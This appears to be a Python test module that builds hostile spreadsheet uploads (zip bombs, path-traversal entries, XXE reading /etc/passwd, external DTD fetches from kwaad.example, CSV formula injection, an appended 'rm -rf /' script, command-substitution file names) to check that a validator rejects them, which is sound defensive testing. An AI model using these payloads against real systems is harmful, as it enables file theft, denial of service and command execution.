"""Files that are wrong before a single cell is read: the kind of file, the zip, the XML, the name."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator, Mapping

from tests.hostile.files import (
    OLE,
    SHEET,
    in_excel,
    overlapping,
    put,
    rows_added,
    saying,
    spoiled,
    with_parts,
    zipped,
)
from tests.hostile.scenes import Nasty

NAME = "verantwoording.xlsx"
LOCKED = OLE + bytes(512) + "EncryptedPackage".encode("utf-16le")
CSV = b"indicator;stand\r\nG3;=cmd|'/c calc'!A1\r\n"
ODS = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}


def files(forms: Mapping[str, bytes]) -> Iterator[Nasty]:
    """Every nasty file of this kind, made of forms that are out."""
    good = forms["fb"]
    yield from _kinds(good)
    yield from _zips(good)
    yield from _contents(good)
    yield from _xml(good)
    yield from _names(good)


def _kinds(good: bytes) -> Iterator[Nasty]:
    yield Nasty("nul bytes", NAME, b"")
    yield Nasty("nul bytes, als .yaml", "verantwoording.yaml", b"")
    yield Nasty("de helft van het bestand", NAME, good[: len(good) // 2])
    yield Nasty("alleen het begin van een zip", NAME, good[:4])
    yield Nasty("de laatste twintig bytes ontbreken", NAME, good[:-20])
    yield Nasty("één byte in het midden omgezet", NAME, _flipped(good))
    yield Nasty("een .csv die .xlsx heet", NAME, CSV)
    yield Nasty("een .csv in de map van binnenkomst", "verantwoording.csv", CSV, way="intake")
    yield Nasty("een .xls van Excel 97", "verantwoording.xls", OLE + bytes(512), way="intake")
    yield Nasty("een .xls die .xlsx heet", NAME, OLE + bytes(512))
    yield Nasty(
        "een .xlsx met een wachtwoord", NAME, OLE + bytes(512) + "EncryptedPackage".encode("utf-16le")
    )
    yield Nasty("een webpagina die .xlsx heet", NAME, b"<html><script>alert(1)</script></html>")
    yield Nasty("een pdf die .xlsx heet", NAME, b"%PDF-1.7\n%%EOF")
    yield Nasty("een programma die .xlsx heet", NAME, b"MZ" + bytes(200))
    yield Nasty("een Word-bestand", "verslag.docx", zipped({"word/document.xml": b"<a/>"}))
    yield Nasty("een zip met het formulier erin", NAME, zipped({NAME: good}))
    yield Nasty("een leeg zipbestand", NAME, zipped({}))
    yield Nasty("een .xlsb", NAME, zipped({"xl/workbook.bin": b"x", "[Content_Types].xml": b"<a/>"}))
    yield Nasty("groter dan tien megabyte", NAME, good + bytes(10 * 2**20))
    yield Nasty("een programma vóór de zip", NAME, b"MZ" + bytes(100) + good)
    yield Nasty("een map die op .xlsx eindigt", "map.xlsx", b"", way="folder")


def _flipped(data: bytes) -> bytes:
    """The file with one bit of a packed part turned round."""
    at = data.find(b"xl/worksheets/sheet2.xml") + 200
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def _zips(good: bytes) -> Iterator[Nasty]:
    big = b"0" * (51 * 2**20)
    yield Nasty("zipbom: één onderdeel van 51 MB", NAME, with_parts(good, {"xl/media/a.png": big}))
    many = {f"xl/media/{number}.png": b"0" * (6 * 2**20) for number in range(9)}
    yield Nasty("zipbom: negen onderdelen van 6 MB", NAME, with_parts(good, many))
    yield Nasty("zipbom: 900 namen voor dezelfde 10 MB", NAME, overlapping(900, 10 * 2**20))
    yield Nasty("de zip zegt dat alles 1 byte is", NAME, saying(good, sizes=1))
    yield Nasty("de zip zegt dat alles 4 GB is", NAME, saying(good, sizes=2**32 - 2))
    yield Nasty("de zip zegt dat hij versleuteld is", NAME, saying(good, flags=1))
    yield Nasty("1.001 onderdelen", NAME, with_parts(good, {f"xl/{n}": b"" for n in range(1001)}))
    yield Nasty("een onderdeel dat omhoog wijst", NAME, with_parts(good, {"../../etc/cron.d/x.xml": b"<a/>"}))
    yield Nasty("een onderdeel met een volledig pad", NAME, with_parts(good, {"/etc/passwd": b"x"}))
    yield Nasty("een onderdeel met een pad van Windows", NAME, with_parts(good, {"C:\\x.xml": b"<a/>"}))
    yield Nasty("twee onderdelen met één naam", NAME, with_parts(good, {SHEET: b"<a/>"}))
    yield Nasty(
        "twee namen die in hoofdletters verschillen", NAME, with_parts(good, {SHEET.upper(): b"<a/>"})
    )
    packed = with_parts(good, {"xl/x.xml": b"<a/>"}, zipfile.ZIP_LZMA)
    yield Nasty("een onderdeel op een vreemde manier ingepakt", NAME, packed)
    yield Nasty("nog een bestand achter de zip", NAME, good + b"#!/bin/sh\nrm -rf /\n" * 5000)


def _contents(good: bytes) -> Iterator[Nasty]:
    for title, part in (
        ("macro's", "xl/vbaProject.bin"),
        ("macro's van Excel 4", "xl/macrosheets/sheet1.xml"),
        ("een knop met ActiveX", "xl/activeX/activeX1.xml"),
        ("een koppeling naar een ander bestand", "xl/externalLinks/externalLink1.xml"),
        ("een ingevoegd bestand", "xl/embeddings/oleObject1.bin"),
    ):
        yield Nasty(title, NAME, with_parts(good, {part: b"<a/>"}))
    yield Nasty(".ods met macro's", "v.ods", zipped({**ODS, "Basic/Standard/Module1.xml": b"<a/>"}))
    yield Nasty(".ods met een ingevoegd bestand", "v.ods", zipped({**ODS, "Object 1/content.xml": b"<a/>"}))
    hidden = b"<manifest:encryption-data/>"
    yield Nasty(".ods met een wachtwoord", "v.ods", zipped({**ODS, "META-INF/manifest.xml": hidden}))
    yield Nasty(".ods zonder bladen", "v.ods", zipped(ODS))
    yield Nasty("een .xlsx die ook een .ods is", NAME, with_parts(good, {"content.xml": b"<a/>"}))
    yield Nasty(
        "koppeling van een blad naar een webadres",
        NAME,
        put(good, "xl/_rels/workbook.xml.rels", b'Target="worksheets/sheet2.xml"',
            b'TargetMode="External" Target="https://kwaad.example/x.xml"'),
    )  # fmt: skip


def _xml(good: bytes) -> Iterator[Nasty]:
    laughs = b'?><!DOCTYPE a [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    yield Nasty("XML die zichzelf vermenigvuldigt", NAME, put(good, SHEET, b"?>", laughs + b"]>"))
    outside = b'?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield Nasty("XML die een bestand van de server leest", NAME, put(good, SHEET, b"?>", outside))
    fetched = b'?><!DOCTYPE a SYSTEM "https://kwaad.example/x.dtd">'
    yield Nasty("XML die iets van internet haalt", NAME, put(good, SHEET, b"?>", fetched))
    deep = b"<sheetData>" + b"<a>" * 200 + b"</a>" * 200
    yield Nasty("XML van tweehonderd lagen", NAME, put(good, SHEET, b"<sheetData>", deep))
    yield Nasty("XML die niet klopt", NAME, put(good, SHEET, b"</sheetData>", b""))
    yield Nasty("XML in UTF-16 met een ander blad", NAME, spoiled(good, SHEET, _utf16))
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    yield Nasty("een cel aan het einde van het blad", NAME, put(good, SHEET, b"</sheetData>", far))
    yield Nasty("een rij met nummer nul", NAME, put(good, SHEET, b'<row r="1"', b'<row r="0"'))
    yield Nasty("een cel zonder bestaande naam", NAME, put(good, SHEET, b'<c r="B5"', b'<c r="B0"'))
    yield Nasty("tekst die niet in de lijst staat", NAME, put(good, SHEET, b"<v>26</v>", b"<v>99999</v>"))
    yield Nasty("tienduizend rijen", NAME, rows_added(good, 20, 10_020))
    yield Nasty(
        "twee bladen met één naam", NAME, put(good, "xl/workbook.xml", b'name="Geld"', b'name="Uitleg"')
    )
    secret = b'<worksheet><sheetData><row r="1"><c r="A1"><f>1</f></c></row></sheetData></worksheet>'
    yield Nasty("een blad waar niets naartoe leidt", NAME, with_parts(good, {"xl/worksheets/x.xml": secret}))

    def sheets(book: object) -> None:
        for number in range(40):
            book.create_sheet(f"Blad {number}")  # type: ignore[attr-defined]

    yield Nasty("veertig bladen erbij", NAME, in_excel(good, sheets))


def _utf16(body: bytes) -> bytes:
    return (
        body.decode().replace("UTF-8", "UTF-16").replace("<v>26</v>", "<f>1</f><v>26</v>", 1).encode("utf-16")
    )


def _names(good: bytes) -> Iterator[Nasty]:
    half = good[: len(good) // 2]
    yield Nasty("een naam van 250 tekens", "v" * 245 + ".xlsx", half, way="intake")
    yield Nasty("een naam met een regeleinde", "a\nOntvangen: alles\n.xlsx", half, way="intake")
    yield Nasty("een naam met een pad van Windows", "x\\..\\..\\y.xlsx", half, way="intake")
    yield Nasty("een naam die van rechts naar links leest", "v\u202excod.xlsx", half, way="intake")
    yield Nasty("een naam die geen UTF-8 is", "v\udcff\udcfe.xlsx", half, way="intake")
    yield Nasty("een naam met tekens voor het scherm", "v\x1b[2J\x07.xlsx", half, way="intake")
    yield Nasty("een naam als een opdracht", "$(touch x);`id`.xlsx", half, way="intake")
    yield Nasty("een verwijzing naar de sleutel van de formulieren", NAME, b"../form.key", way="link")
    yield Nasty("een verwijzing naar een bestand dat er niet is", NAME, b"../elders.xlsx", way="link")
